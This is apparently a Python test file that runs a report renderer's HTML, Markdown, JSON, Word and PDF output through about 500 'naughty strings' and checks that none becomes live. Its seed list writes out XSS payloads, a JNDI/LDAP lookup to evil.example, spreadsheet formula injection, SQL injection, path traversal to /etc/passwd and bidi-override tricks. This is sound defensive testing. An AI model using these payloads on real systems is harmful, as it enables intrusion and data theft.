"""Five hundred naughty strings through every field and format: all are read back, none is live."""

from __future__ import annotations

import io
import json
import random
from functools import cache
from typing import Any

import docx
import pytest
from fixed import AS_OF, one_in
from markdown_it import MarkdownIt
from test_document import CUSTOMERS, Page, flat

from framing import Framing, assess, load_rulebook
from framing.document import FORMS, render
from framing.document.direction import TURNING, shown

BOOK = load_rulebook()
TEXTS = [question.id for question in BOOK.questions if question.kind == "text"]
PEOPLE = ("title", "author", "owner", "by", "reason")
FIELDS = (*TEXTS, *PEOPLE)
#: What has broken renderers, terminals, parsers or readers before.
SEEDS = (
    "<script>alert({n})</script>", "<img src=x onerror=alert({n})>", "<svg/onload=alert({n})>",
    "\"><a href='javascript:alert({n})'>x</a>", "javascript:alert({n})//", "<!-- {n} -->", "]]>{n}",
    "</textarea><iframe src=//evil.example/{n}>", "&lt;script&gt;{n}&#60;b&#62;", "{{{{7*{n}}}}}",
    "${{jndi:ldap://evil.example/{n}}}", "[x{n}](javascript:alert(1))", "![i{n}](http://evil/p.png)",
    "[a{n}]: http://evil.example 'x'", "<http://evil.example/{n}>", "www.evil.example/{n}",
    "http://evil.example/{n}", "# heading {n}", "---\nyaml: {n}\n---",
    "| a{n} | b |\n|---|---|\n| 1 | 2 |",
    "```\ncode {n}\n```", "`{n}`` `", "*{n}* _b_ **c** ~~d~~", "1. one {n}\n2) two", "> quote {n}",
    "- [ ] task {n}", "$x_{n}$ $$y$$", "#set page({n})", "#eval(\"{n}\") @ref <label>", "\\{n}\\\\",
    "{n}\u202eevil\u202c", "{n}\u2066isolate\u2069", "\u200f{n}\u200e", "{n}\U000e0041\U000e0042",
    "e\u0301\u0301 {n}", "\u0627\u0644\u0639{n}", "漢字{n}", "🏴👩‍👩‍👧 {n}", "ﷺ{n}", "﷽ {n}",
    "=cmd|' /C calc'!A{n}", "+{n}", "-{n}", "@SUM({n})", "'; DROP TABLE cases; -- {n}", "%s%n{n}",
    "../../etc/passwd{n}", "CON{n}", "NULL{n}", "undefined {n}", "NaN {n}", "1e{n}",
    "0x{n}", "true{n}",
    "\"quoted {n}\"", "'{n}'", "a" * 300 + "{n}", "x {n}\n\n\n    indented",
    "tab\t{n}", "a &amp; {n}",
)  # fmt: skip
NAUGHTY = [seed.format(n=n) for n in range(9) for seed in SEEDS][:510]
BATCHES = [NAUGHTY[i : i + len(FIELDS)] for i in range(0, len(NAUGHTY), len(FIELDS))]


def framing_with(words: list[str]) -> Framing:
    """A case in which each field holds one of these, over and over."""
    said = {field: words[i % len(words)] for i, field in enumerate(FIELDS)}
    override = {"verdict": "stop", "by": said["by"][:150], "reason": said["reason"]}
    about: dict[str, Any] = {key: said[key][:150] for key in ("title", "author", "owner")}
    texts = {name: said[name] for name in TEXTS}
    return assess({**CUSTOMERS, **texts}, AS_OF, about={**about, "override": override})


@cache
def plain_tags(fmt: str) -> frozenset[str]:
    """Names of the elements of the same page where everything typed is plain, long or short."""
    pages = [str(render(framing_with([w]), fmt)) for w in ("plain", "long words " * 30, "a\nb")]
    return frozenset(tag for page in pages for tag, _ in read(fmt, page).tags)


def read(fmt: str, page: str) -> Page:
    if fmt == "html":
        return Page(page)
    # A reader that lets HTML through, so that whatever is not escaped becomes an element.
    reader = MarkdownIt("commonmark", {"html": True, "linkify": False})
    return Page(reader.enable(["table", "strikethrough"]).render(page))


def seen(words: str) -> str:
    return flat(shown(words))


def test_there_are_five_hundred_of_them() -> None:
    assert len(set(NAUGHTY)) == len(NAUGHTY) >= 500
    assert sum(map(len, BATCHES)) == len(NAUGHTY)


@pytest.mark.parametrize("fmt", one_in(3, ["html", "md", *FORMS]))
@pytest.mark.parametrize("words", one_in(8, BATCHES), ids=range(len(BATCHES)))
def test_none_is_live_on_a_page(words: list[str], fmt: str) -> None:
    framing = framing_with(words)
    raw = str(render(framing, fmt))
    assert not set(map(chr, TURNING)) & set(raw)
    page = read(fmt, raw)
    assert {tag for tag, _ in page.tags} <= plain_tags(fmt)
    for tag, attrs in page.tags:
        assert not [key for key in attrs if key.startswith("on") or key == "src"]
        link = attrs.get("href") or "#"
        assert "evil" not in link
        assert tag != "a" or link.startswith(("#", "https://", "http://"))
    if fmt in ("html", "md"):
        for name in TEXTS:
            assert seen(str(framing.answers[name])) in page.text, name
        assert seen(framing.about.title or "") in page.text


@pytest.mark.parametrize("words", one_in(8, BATCHES), ids=range(len(BATCHES)))
def test_none_is_lost_or_obeyed_in_json(words: list[str]) -> None:
    framing = framing_with(words)
    raw = str(render(framing, "json"))
    assert not set(map(chr, TURNING)) & set(raw)
    assert json.loads(raw)["answers"] == framing.answers.plain()


@pytest.mark.full
@pytest.mark.parametrize("words", one_in(4, BATCHES[:: 1 + len(BATCHES) // 8]), ids=str)
def test_none_is_live_in_word(words: list[str]) -> None:
    framing = framing_with(words)
    data = render(framing, "docx")
    assert isinstance(data, bytes)
    file = docx.Document(io.BytesIO(data))
    xml = file.element.xml
    assert not set(map(chr, TURNING)) & set(xml)
    links = [r.target_ref for r in file.part.rels.values() if "hyperlink" in r.reltype]
    assert not [link for link in links if "evil" in link or not link.startswith("http")]
    cells = (c.text for t in file.tables for row in t.rows for c in row.cells)
    said = flat(" ".join([*(p.text for p in file.paragraphs), *cells]))
    for name in TEXTS:
        assert seen(str(framing.answers[name])) in said


@pytest.mark.full
def test_a_file_of_each_kind_is_made_of_the_worst() -> None:
    worst = random.Random(7).sample(NAUGHTY, len(FIELDS))
    for full in (False, True):
        pdf = render(framing_with(worst), "pdf", full=full)
        assert isinstance(pdf, bytes)
        assert pdf.startswith(b"%PDF")
        assert b"evil.example" not in pdf
